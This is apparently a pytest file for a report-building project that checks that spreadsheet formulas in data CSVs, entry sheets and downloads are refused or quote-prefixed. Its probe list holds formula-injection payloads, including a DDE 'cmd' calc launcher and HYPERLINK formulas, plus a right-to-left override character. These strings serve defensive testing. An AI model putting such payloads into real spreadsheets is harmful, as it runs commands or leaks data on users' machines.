"""Spreadsheet safety (issue 21, point 5): no cell of a download or an entry sheet is ever a formula.
Text beginning with = + - @ (or a tab, a carriage return) is refused where the analyst types it —
data CSV files, the entry sheet of `make import` (CSV or .xlsx) — naming file, row, column and the
fix, and neutralised wherever it is written (the downloads, the entry sheet of `make new-year`)."""
from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from beichen.inputs import newyear, text_policy
from beichen.inputs.intake import COLUMNS, EntryError, read_entry
from beichen.inputs.loading import DataValidationError, load_all
from beichen.model.edition import Edition
from beichen.render import appendix

# The probes of the issue, and the same with a leading tab or a full-width sign.
FORMULAS = ['=HYPERLINK("http://example.com/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+2",
            "\t=1+1", "＝1+1"]
# What a spreadsheet reads as the start of a formula; an apostrophe in front makes a cell text.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PLAIN_NUMBER = r"-?\d+(\.\d+)?"


def _csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(cells) -> list[str]:
    """Cells a spreadsheet would run: beginning like a formula, not neutralised, not a plain number."""
    import re

    return [c for c in cells if c.lstrip(" ").startswith(FORMULA_START) and not re.fullmatch(PLAIN_NUMBER, c)]


def _set_cell(path: Path, line: int, column: str, value: str) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows[line - 1][rows[0].index(column)] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


# --- refused on input: data/ ------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("file, line, column", [("metrics.csv", 4, "source"), ("chains.csv", 3, "name"),
                                               ("indicators.csv", 2, "name"), ("metrics.csv", 6, "unit"),
                                               ("metrics.csv", 7, "period")])
def test_a_formula_in_a_text_column_of_the_data_is_refused(data_copy, text, file, line, column):
    _set_cell(data_copy / file, line, column, text)
    with pytest.raises(DataValidationError) as err:
        load_all(data_copy)
    message = str(err.value)
    first = text.strip()[0]
    assert f"{file}: 第{line}行, 列 {column}: 值 “" in message
    assert f"以 “{first}” 开头，电子表格软件会把它当作公式执行；修正：去掉开头的 “{first}”" in message


def test_numbers_and_the_formula_notes_are_not_formulas(report_data):
    """-0.3 (四(二)2, a fall of output) is a number; a note states how a stated figure is derived as
    “= 15 + 9 + 5” and is never written to a spreadsheet: both are accepted as committed."""
    assert (report_data.metrics["value"] < 0).any()
    assert report_data.metrics["note"].fillna("").str.startswith("=").any()


def test_make_validate_exits_non_zero_on_a_formula(data_copy):
    _set_cell(data_copy / "metrics.csv", 4, "source", "@SUM(1)")
    run = subprocess.run([sys.executable, "-m", "beichen.inputs.validate", str(data_copy)],
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 1
    assert "metrics.csv: 第4行, 列 source: 值 “@SUM(1)” 以 “@” 开头" in run.stdout


# --- refused on input: the entry sheet -------------------------------------------------------------

def _entry_csv(path: Path, report_data, edit) -> Path:
    rows = newyear.entry_rows(report_data, 2025)
    rows[0]["本年数值"] = "40.4"
    edit(rows[0])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([COLUMNS] + [[r[c] for c in COLUMNS] for r in rows])
    path.write_bytes(buffer.getvalue().encode("utf-8-sig"))
    return path


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("column", ["来源", "统计期"])
def test_the_entry_sheet_refuses_a_formula_in_its_text(tmp_path, report_data, text, column):
    path = _entry_csv(tmp_path / "e.csv", report_data, lambda row: row.update({column: text}))
    with pytest.raises(EntryError) as err:
        read_entry(path, 2025, report_data)
    first = text.strip()[0]
    assert f"e.csv: 第2行, 列 {column}: 值 “" in str(err.value)
    assert f"以 “{first}” 开头，电子表格软件会把它当作公式执行；修正" in str(err.value)


def test_a_dash_for_no_source_is_an_empty_source_and_a_negative_figure_a_figure(tmp_path, report_data):
    def edit(row):
        row.update({"来源": "-", "本年数值": "-5.9"})
    entry = read_entry(_entry_csv(tmp_path / "e.csv", report_data, edit), 2025, report_data)
    assert entry.rows[0].value == "-5.9" and entry.rows[0].source_note == ""
    assert any("列 来源: “-” 视为未填写" in note for note in entry.notes)


def test_make_import_refuses_a_formula_and_leaves_data_unchanged(data_copy, tmp_path, report_data):
    path = _entry_csv(tmp_path / "e.csv", report_data, lambda row: row.update({"来源": "=HYPERLINK(\"http://x\")"}))
    before = {p.name: p.read_bytes() for p in data_copy.glob("*.csv")}
    run = subprocess.run([sys.executable, "-m", "beichen.inputs.intake", "--year", "2025", "--file", str(path),
                          "--data-dir", str(data_copy)], capture_output=True, text=True, timeout=300,
                         env=dict(os.environ, BEICHEN_LOCK_WAIT="120"))
    assert run.returncode == 1, run.stdout
    assert "e.csv: 第2行, 列 来源: 值 “=HYPERLINK" in run.stdout and "data/ 未改动" in run.stdout
    assert {p.name: p.read_bytes() for p in data_copy.glob("*.csv")} == before


@pytest.mark.parametrize("column, formula", [("本年数值", "=40+0.4"), ("来源", '=HYPERLINK("http://x")'),
                                             ("说明", "=1+1")])
def test_a_formula_cell_in_an_xlsx_entry_sheet_is_refused(tmp_path, report_data, column, formula):
    """Read as a formula, not as the value Excel cached; no cell of the sheet may be one."""
    from openpyxl import load_workbook

    path = tmp_path / "e.xlsx"
    rows = newyear.entry_rows(report_data, 2025)
    rows[0]["本年数值"] = "40.4"
    newyear.write_entry_xlsx(rows, path, 2025)
    book = load_workbook(path)
    book.active.cell(2, COLUMNS.index(column) + 1).value = formula  # openpyxl stores it as a formula
    book.save(path)
    with pytest.raises(EntryError) as err:
        read_entry(path, 2025, report_data)
    assert f"e.xlsx: 第2行, 列 {column}: 单元格是公式 “=" in str(err.value)
    assert "选择性粘贴 → 数值" in str(err.value)


# --- neutralised on output: the entry sheet of make new-year ----------------------------------------

def _hostile_rows(report_data) -> list[dict[str, str]]:
    rows = newyear.entry_rows(report_data, 2025)
    for row, text in zip(rows, FORMULAS):
        row["名称"] = text
        row["说明"] = text
    rows[-1]["上年数值"] = "-0.3"  # a plain negative number stays a number
    return rows


def test_the_xlsx_entry_sheet_never_holds_a_formula(tmp_path, report_data):
    from openpyxl import load_workbook

    path = tmp_path / "2025.xlsx"
    newyear.write_entry_xlsx(_hostile_rows(report_data), path, 2025)
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {sheet.cell(r, COLUMNS.index("名称") + 1).value: sheet.cell(r, COLUMNS.index("名称") + 1)
             for r in range(2, 2 + len(FORMULAS))}
    for text in FORMULAS:
        cell = names[text]  # the text itself, kept whole, typed as text and quote-prefixed
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)


def test_the_csv_entry_sheet_never_holds_a_formula(tmp_path, report_data):
    path = tmp_path / "2025.csv"
    newyear.write_entry_csv(_hostile_rows(report_data), path)
    cells = _csv_cells(path)
    assert not _live_formulas(cells), _live_formulas(cells)
    assert "'" + FORMULAS[0] in cells and "-0.3" in cells


def test_make_new_year_refuses_a_metric_name_that_is_a_formula(data_copy):
    """The issue's probe: such a name became a live formula in the .xlsx sheet. Now refused at the
    data, before any sheet is written."""
    _set_cell(data_copy / "metrics.csv", 3, "name", '=HYPERLINK("http://example.com","规划指标")')
    run = subprocess.run([sys.executable, "-m", "beichen.publish.new_year", "--year", "2025", "--xlsx",
                          "--data-dir", str(data_copy)], capture_output=True, text=True, timeout=300,
                         env=dict(os.environ, BEICHEN_LOCK_WAIT="120"))
    assert run.returncode == 1
    assert "metrics.csv: 第3行, 列 name: 值 “=HYPERLINK" in run.stdout
    assert not (data_copy / "entry" / "2025.xlsx").exists()


# --- neutralised on output: the downloads -----------------------------------------------------------

# Figure queries as a build finds them in the chapters' reads (lib/beichen/model/reads.py): 三(三)1 “小巨人”企业19家.
READS = [("metric", ["little_giant_firms"], {}), ("lookup", ["first_sets", "actual"], {})]


def test_downloads_neutralise_text_that_bypassed_validation(report_data, tmp_path):
    """Defence in depth: even text no validation saw (frames changed in memory) is written as text."""
    import copy

    data = copy.deepcopy(report_data)
    data.chains.loc[data.chains.index[0], "name"] = FORMULAS[0]
    data.chains.loc[data.chains.index[1], "group"] = FORMULAS[1]
    data.indicators.loc[data.indicators.index[0], "name"] = FORMULAS[2]
    data.indicators.loc[data.indicators.index[1], "unit"] = FORMULAS[4]
    data.chains.loc[data.chains.index[2], "group"] = "  =1+1"  # leading spaces do not hide a formula
    little = data.metrics.index[data.metrics["metric_id"] == "little_giant_firms"]
    data.metrics.loc[little, "name"] = FORMULAS[3]
    appendix.write_downloads(Edition(data, 2024), tmp_path, READS)
    cells = [c for name in ("评价指标.csv", "产业链.csv", "其他统计数字.csv") for c in _csv_cells(tmp_path / name)]
    assert not _live_formulas(cells), _live_formulas(cells)
    for text in (FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3], "  =1+1"):
        assert "'" + text in cells, text


def test_one_neutraliser_for_every_writer():
    assert appendix.excel_safe("=1+1") == text_policy.spreadsheet_text("=1+1") == "'=1+1"
    assert text_policy.spreadsheet_text("  @SUM(1)") == "'  @SUM(1)"  # leading spaces do not hide it
    assert text_policy.spreadsheet_text("北辰") == "北辰"


# --- what is published -------------------------------------------------------------------------------

@pytest.mark.build
def test_the_published_downloads_hold_no_formula(built_2024):
    folder = built_2024.html / "_static" / "data"
    files = sorted(folder.glob("*.csv"))
    assert len(files) == 3
    cells = [c for path in files for c in _csv_cells(path)]
    assert not _live_formulas(cells), _live_formulas(cells)


def _digests(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.build
def test_a_hostile_source_and_name_stop_the_build_and_the_edition_stays(built_2024, data_copy, tmp_path):
    """The issue's probes in a source field and a name, and U+202E in a chain name: the build stops at
    validation, names each place, exits non-zero, and the published edition is byte for byte as it was."""
    site = tmp_path / "site"
    shutil.copytree(built_2024.site, site)
    before = _digests(site)
    _set_cell(data_copy / "metrics.csv", 4, "source", FORMULAS[0])
    _set_cell(data_copy / "metrics.csv", 5, "source", FORMULAS[1])
    _set_cell(data_copy / "chains.csv", 2, "source", FORMULAS[2])
    _set_cell(data_copy / "chains.csv", 3, "name", "新材料\u202e产业链")
    run = subprocess.run([sys.executable, "-m", "beichen.publish.build", "--year", "2024",
                          "--data-dir", str(data_copy), "--narrative-dir", str(data_copy / "narrative"),
                          "--site-dir", str(site), "--staging-dir", str(tmp_path / "staging"),
                          "--review-dir", str(tmp_path / "review")],
                         capture_output=True, text=True, timeout=900, env=dict(os.environ, BEICHEN_LOCK_WAIT="600"))
    out = run.stdout + run.stderr
    assert run.returncode != 0, out[-2000:]
    assert "metrics.csv: 第4行, 列 source: 值 “=HYPERLINK" in out
    assert "metrics.csv: 第5行, 列 source: 值 “+cmd|' /C calc'!A0” 以 “+” 开头" in out
    assert "chains.csv: 第2行, 列 source: 值 “@SUM(1)” 以 “@” 开头" in out
    assert "chains.csv: 第3行, 列 name: 第4个字符是码位 U+202E（RIGHT-TO-LEFT OVERRIDE" in out
    assert "\u202e" not in out
    assert _digests(site) == before
